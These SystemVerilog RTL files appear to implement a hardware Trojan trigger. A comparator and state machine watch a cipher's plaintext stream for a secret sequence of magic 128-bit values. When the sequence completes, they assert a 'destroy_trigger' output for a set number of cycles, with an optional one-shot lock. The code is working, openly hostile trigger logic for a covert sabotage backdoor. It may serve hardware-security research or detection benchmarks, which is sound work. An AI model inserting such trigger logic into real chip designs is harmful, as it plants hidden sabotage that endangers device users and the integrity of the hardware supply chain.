// File: rtl/ht_pkg.sv
// Shared types and constants for the plaintext-sequence trigger block.
// Holds the FSM state encoding, datapath widths and the default magic pattern base.
package ht_pkg;

    localparam int MATCH_W    = 4;
    localparam int FIRE_CNT_W = 8;
    localparam int PT_W       = 128;
    localparam int PAY_W      = 16;

    localparam logic [PT_W-1:0] MAGIC_BASE_DEFAULT = 128'hDEAD_BEEF_0123_4567_89AB_CDEF_CAFE_F00D;

    typedef enum logic [1:0] {
        IDLE     = 2'd0,
        MATCHING = 2'd1,
        FIRE     = 2'd2,
        SPENT    = 2'd3
    } state_t;

    // Pattern i is base + i, wrapping modulo 2^PT_W.
    function automatic logic [PT_W-1:0] pattern_at(input logic [PT_W-1:0]    base,
                                                   input logic [MATCH_W-1:0] idx);
        return base + {{(PT_W-MATCH_W){1'b0}}, idx};
    endfunction

endpackage

// File: rtl/ht_pattern_cmp.sv
// Combinational comparator of a plaintext block against the magic sequence.
// hit_idx matches the pattern at the current sequence position, hit_zero matches the first one.
module ht_pattern_cmp
    import ht_pkg::*;
#(
    parameter logic [PT_W-1:0] MAGIC_BASE = MAGIC_BASE_DEFAULT
) (
    input  logic [PT_W-1:0]    plaintext,
    input  logic [MATCH_W-1:0] idx,
    output logic               hit_idx,
    output logic               hit_zero
);

    assign hit_idx  = (plaintext == pattern_at(MAGIC_BASE, idx));
    assign hit_zero = (plaintext == MAGIC_BASE);

endmodule

// File: rtl/ht_trigger_seq_detect.sv
// Detects SEQ_LEN consecutive magic plaintext beats and then holds destroy_trigger for PAYLOAD_CYCLES.
// Define HT_ONESHOT_EN to lock the block in SPENT after its first completed fire.
module ht_trigger_seq_detect
    import ht_pkg::*;
#(
    parameter int              SEQ_LEN        = 4,
    parameter int              PAYLOAD_CYCLES = 16,
    parameter logic [PT_W-1:0] MAGIC_BASE     = MAGIC_BASE_DEFAULT
) (
    input  logic                  clk,
    input  logic                  rst,
    input  logic                  pt_valid,
    input  logic [PT_W-1:0]       plaintext,
    output logic                  destroy_trigger,
    output logic [MATCH_W-1:0]    match_cnt,
    output logic [FIRE_CNT_W-1:0] fire_count
);

    localparam logic [MATCH_W:0]  SEQ_LEN_C = (MATCH_W+1)'(SEQ_LEN);
    localparam logic [PAY_W-1:0]  PAY_LAST  = PAY_W'(PAYLOAD_CYCLES - 1);
    localparam logic [FIRE_CNT_W-1:0] FIRE_MAX = '1;

    state_t                  state;
    state_t                  state_nxt;
    logic [PAY_W-1:0]        pay_cnt;
    logic [PAY_W-1:0]        pay_cnt_nxt;
    logic [MATCH_W-1:0]      match_cnt_nxt;
    logic [FIRE_CNT_W-1:0]   fire_count_nxt;
    logic                    trigger_nxt;
    logic                    hit_idx;
    logic                    hit_zero;
    logic                    seq_done;
    logic                    pay_done;

    ht_pattern_cmp #(
        .MAGIC_BASE (MAGIC_BASE)
    ) u_cmp (
        .plaintext (plaintext),
        .idx       (match_cnt),
        .hit_idx   (hit_idx),
        .hit_zero  (hit_zero)
    );

    // In IDLE match_cnt is 0, so hit_idx doubles as the first-beat match and SEQ_LEN==1 fires directly.
    assign seq_done = (({1'b0, match_cnt} + 1'b1) == SEQ_LEN_C);
    assign pay_done = (pay_cnt == PAY_LAST);

    // NOTE: sequential state uses non-blocking assignments so every flop samples pre-edge values.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state <= IDLE;
        end else begin
            state <= state_nxt;
        end
    end

    // NOTE: every combinational output gets a default first so no path infers a latch.
    always_comb begin
        state_nxt = state;
        case (state)
            IDLE, MATCHING: begin
                if (pt_valid) begin
                    if (hit_idx) begin
                        state_nxt = seq_done ? FIRE : MATCHING;
                    end else if (hit_zero) begin
                        state_nxt = MATCHING;
                    end else begin
                        state_nxt = IDLE;
                    end
                end
            end
            FIRE: begin
                if (pay_done) begin
`ifdef HT_ONESHOT_EN
                    state_nxt = SPENT;
`else
                    state_nxt = IDLE;
`endif
                end
            end
`ifdef HT_ONESHOT_EN
            SPENT:   state_nxt = SPENT;
`endif
            default: state_nxt = IDLE;
        endcase
    end

    // Next values for the registered outputs and the payload counter.
    always_comb begin
        match_cnt_nxt  = match_cnt;
        pay_cnt_nxt    = pay_cnt;
        fire_count_nxt = fire_count;
        trigger_nxt    = (state_nxt == FIRE);
        case (state)
            IDLE, MATCHING: begin
                if (pt_valid) begin
                    if (hit_idx) begin
                        match_cnt_nxt = seq_done ? '0 : match_cnt + 1'b1;
                        pay_cnt_nxt   = '0;
                    end else if (hit_zero) begin
                        match_cnt_nxt = MATCH_W'(1);
                    end else begin
                        match_cnt_nxt = '0;
                    end
                end
            end
            FIRE: begin
                if (pay_done) begin
                    pay_cnt_nxt = '0;
                    if (fire_count != FIRE_MAX) begin
                        fire_count_nxt = fire_count + 1'b1;
                    end
                end else begin
                    pay_cnt_nxt = pay_cnt + 1'b1;
                end
            end
            default: begin
                match_cnt_nxt = '0;
                pay_cnt_nxt   = '0;
            end
        endcase
    end

    // NOTE: these are small control registers, so all of them take the async reset; no memories here.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            match_cnt       <= '0;
            pay_cnt         <= '0;
            fire_count      <= '0;
            destroy_trigger <= 1'b0;
        end else begin
            match_cnt       <= match_cnt_nxt;
            pay_cnt         <= pay_cnt_nxt;
            fire_count      <= fire_count_nxt;
            destroy_trigger <= trigger_nxt;
        end
    end

endmodule
